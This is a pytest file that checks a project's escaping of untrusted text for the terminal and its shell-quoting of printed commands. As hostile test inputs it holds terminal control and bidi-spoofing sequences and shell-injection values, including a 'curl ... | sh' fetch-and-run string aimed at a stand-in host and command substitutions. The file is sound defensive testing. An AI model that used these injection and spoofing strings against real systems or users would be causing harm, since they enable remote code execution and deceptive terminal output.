"""Issue 22: others' text (pairing fields, journal lines, gateway output) reaches the terminal
escaped, and every command printed for copy-paste is shell-quoted."""

from __future__ import annotations

import subprocess

import pytest

from reconciler.core.untrusted import printable, shell_line, shell_word

HOSTILE = (
    "\x1b]0;pwned\x07",  # OSC: retitles the terminal
    "\x1b[2J\x1b[H",  # CSI: clears the screen
    "ok\rFAKE",  # CR: overwrites the line
    "a\nerror: forged line",  # LF: a line of ours, forged
    "\u202eevil",  # RIGHT-TO-LEFT OVERRIDE
    "\u2066x\u2069",  # bidi isolates
    "a\u2028b",  # LINE SEPARATOR
    "\x9b31m",  # C1 CSI
    "zero\u200bwidth",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_printable_leaves_no_control_or_bidi_character(text: str) -> None:
    shown = printable(text)
    assert shown.isascii() or shown.isprintable()
    assert all(c.isprintable() for c in shown)


def test_printable_spelling() -> None:
    assert printable("\x1b]0;t\x07") == "\\x1b]0;t\\x07"
    assert printable("a\r\nb\t") == "a\\r\\nb\\t"
    assert printable("\u202eevil") == "\\u202eevil"
    assert printable("Firefox on Linux, café, 東京") == "Firefox on Linux, café, 東京"


@pytest.mark.parametrize(
    "word",
    ["x; curl http://e.example/x | sh #", "$(id)", "`id`", "it's", "-", "", "a\nb", "\x1b[2J",
     "\u202eevil", "back\\slash'\x07"],
)  # fmt: skip
def test_a_quoted_word_is_one_word_and_exactly_itself_in_bash(word: str) -> None:
    line = shell_line(("printf", "%s\\0", word))
    assert printable(line) == line  # nothing raw reaches the terminal
    out = subprocess.run(["bash", "-c", line], capture_output=True, check=True).stdout
    assert out.decode("utf-8") == word + "\0"
    assert shell_word("plain-word_1.2") == "plain-word_1.2"
